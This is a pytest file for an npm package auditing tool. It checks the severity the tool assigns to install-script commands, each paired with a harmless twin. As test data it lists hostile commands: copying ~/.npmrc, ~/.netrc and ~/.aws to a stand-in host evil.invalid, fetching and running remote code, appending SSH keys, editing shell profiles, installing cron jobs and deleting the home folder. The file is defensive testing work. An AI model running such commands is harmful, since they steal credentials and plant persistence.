"""What commands of an install script weigh, from a package's folder to its findings; each with a harmless twin."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from audit.pipeline.inspecting import inspect
from audit.pipeline.request import Request

if TYPE_CHECKING:
    from pathlib import Path

    from audit.model.finding import Finding

LISTED = {"dependencies": {"dep": "1"}, "bin": {"own": "own.js"}}


@pytest.fixture
def findings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Weigh:
    monkeypatch.setenv("CONTAIN_AUDIT_CACHE", str(tmp_path / "cache"))
    return Weigh(tmp_path / "package")


class Weigh:
    """Audits a package in a folder of its own."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder

    def __call__(self, scripts: str | dict[str, str], files: dict[str, str]) -> list[Finding]:
        self.folder.mkdir()
        commands = {"postinstall": scripts} if isinstance(scripts, str) else scripts
        manifest = {"name": "example", "version": "1.0.0", "scripts": commands, **LISTED}
        for name, text in {"package.json": json.dumps(manifest, indent=1), **files}.items():
            (self.folder / name).write_text(text, "utf-8")
        report = inspect(Request(str(self.folder), jobs=1), lambda *_: None)
        return [each for each in report.findings if "at install" in each.message or _runs(each)]


def _runs(finding: Finding) -> bool:
    return finding.rule in ("install-script", "unanalysed-code", "loads-outside")


WEIGHTS = {
    "scp ~/.npmrc a@evil.invalid:": "high",
    "cat ~/.netrc | ssh a@evil.invalid": "high",
    "rsync -a ~/.aws evil.invalid:x": "high",
    "rsync -a src/ lib/": "moderate",
    "socat -u FILE:$HOME/.npmrc TCP:evil.invalid:1": "high",
    "git clone https://evil.invalid/x.git && cd x && node i.js": "high",
    "git submodule update --init": "moderate",
    "npm install evil --registry http://evil.invalid": "high",
    "npm install --registry=http://evil.invalid": "high",
    "yarn global add evil": "high",
    "npm install dep": "moderate",
    "npm install": "moderate",
    "npm rebuild": "moderate",
    "npm i --prefix sub": "moderate",
    "npx -y evil-tool": "high",
    "pnpm dlx evil-tool": "high",
    "npx dep": "moderate",
    "npx own": "moderate",
    "npm install own": "high",
    "npx --no-install evil-tool": "moderate",
    "npx only-allow pnpm": "moderate",
    "npx tsc": "moderate",
    "bun add evil": "high",
    "bun x evil-tool": "high",
    "bun install": "moderate",
    "deno run https://evil.invalid/x.ts": "high",
    "pip install evil": "high",
    "pip install .": "moderate",
    "docker run --rm evil": "high",
    "docker rm evil": "moderate",
    "npm i -g evil": "high",
    "cargo run --example schema": "moderate",
    "go run evil.invalid/x@latest": "high",
    "go run ./x.go": "moderate",
    "echo bad >> ~/.bashrc": "high",
    "echo x > built.txt": "moderate",
    'echo "thanks! see https://docs.invalid" > /dev/null 2>&1': "low",
    'echo "done; ok" || true': "low",
    'echo "see https://docs.invalid for curl or wget"': "low",
    'echo "curl https://evil.invalid" | sh': "high",
    'echo "$(node x.js)"': "moderate",
    "mkdir -p ~/.ssh && echo key >> ~/.ssh/authorized_keys": "high",
    "cat ~/.ssh/known_hosts": "moderate",
    "cp hook.sh ../../.git/hooks/pre-commit": "high",
    'bash -lc "source ~/.bashrc; node-gyp rebuild"': "moderate",
    '(crontab -l; echo "* * * * * true") | crontab -': "high",
    "rm -rf ~/ || true": "high",
    "rm -rf node_modules/.cache build": "moderate",
    "dig @192.0.2.1 x": "moderate",
    "node-gyp rebuild": "low",
}


@pytest.mark.parametrize(("command", "severity"), WEIGHTS.items(), ids=WEIGHTS)
def test_a_command_weighs(findings: Weigh, command: str, severity: str) -> None:
    told = findings(command, {})
    assert min((each.severity for each in told), key=["high", "moderate", "low"].index) == severity


PROFILE = """const os = require('os'), fs = require('fs'), path = require('path')
fs.{0}(path.join(os.homedir(), '.bashrc'), 'x')
"""


@pytest.mark.parametrize(("does", "severity"), [("appendFileSync", "high"), ("existsSync", "")])
def test_code_at_install_writes_to_a_profile(findings: Weigh, does: str, severity: str) -> None:
    told = findings("node setup.js", {"setup.js": PROFILE.format(does)})
    assert ["high" for each in told if each.severity == "high"] == ([severity] if severity else [])


STARTED = {
    "scp ~/.npmrc a@evil.invalid:": "high",
    "git clone https://evil.invalid/x.git": "high",
    "pip install evil": "high",
    "pip install -e .": "",
    "git status": "",
    "npm install dep": "",
    "npx dep": "",
}


def test_code_at_install_starts_a_program_with_words_of_its_own(findings: Weigh) -> None:
    code = "require('child_process').spawnSync('scp', ['~/.npmrc', 'a@evil.invalid:'])"
    told = findings("node setup.js", {"setup.js": code})
    assert "high" in {each.severity for each in told}


@pytest.mark.parametrize(("command", "severity"), STARTED.items(), ids=STARTED)
def test_code_at_install_starts_a_command(findings: Weigh, command: str, severity: str) -> None:
    code = f"require('child_process').execSync('{command}')"
    told = findings("node setup.js", {"setup.js": code})
    assert ["high" for each in told if each.severity == "high"] == ([severity] if severity else [])


UNREAD = {
    "node gone.js": "unknown:missing",
    "git clone https://evil.invalid/x.git && sh x/y.sh": "unknown:missing",
    "./configure && make": "unknown:missing",
    "node node_modules/other/x.js": "load:outside",
}
READ = [
    "node setup",
    "sh -c 'node ./setup.js'",
    "node node_modules/dep/x.js",
    "rollup -c",
    "neon build",
    "setup.cmd",
]
READ += ["./node_modules/.bin/dep", "echo true > a.sh && sh a.sh", "npm.cmd run build"]


@pytest.mark.parametrize(("command", "capability"), UNREAD.items(), ids=UNREAD)
def test_a_file_that_runs_and_is_not_there_is_said(
    findings: Weigh, command: str, capability: str
) -> None:
    told = findings(command, {"setup.js": ""})
    assert [each for each in told if capability in f"{each.capability} {each.message}"]


@pytest.mark.parametrize("command", READ)
def test_a_file_that_is_there_or_another_programs_is_not(findings: Weigh, command: str) -> None:
    told = findings(command, {"setup.js": "", "setup.cmd": "@echo off\r\n"})
    assert {each.rule for each in told} == {"install-script"}


def test_what_windows_finds_without_a_path_is_run(findings: Weigh) -> None:
    told = findings("setup.bat", {"setup.bat": "@echo off\r\ncurl https://evil.invalid\r\n"})
    assert [each.severity for each in told] == ["high", "moderate"]
    assert not [each for each in told if "nothing loads" in each.message]


def test_each_script_is_told_with_what_it_runs_itself(findings: Weigh) -> None:
    files = {
        "a.js": "console.log(1)",
        "b.js": "require('./c')",
        "c.js": "require('https').get('https://evil.invalid')",
    }
    scripts = {"preinstall": "node a.js", "install": "npm run more", "postinstall": "node b.js"}
    told = findings({**scripts, "more": "node a.js && node b.js"}, files)
    said = {each.message for each in told if each.rule == "install-script"}
    assert said == {
        'runs "node a.js" at preinstall (a.js)',
        'runs "npm run more" at install (a.js, b.js, c.js, which uses network)',
        'runs "node b.js" at postinstall (b.js, c.js, which uses network)',
    }
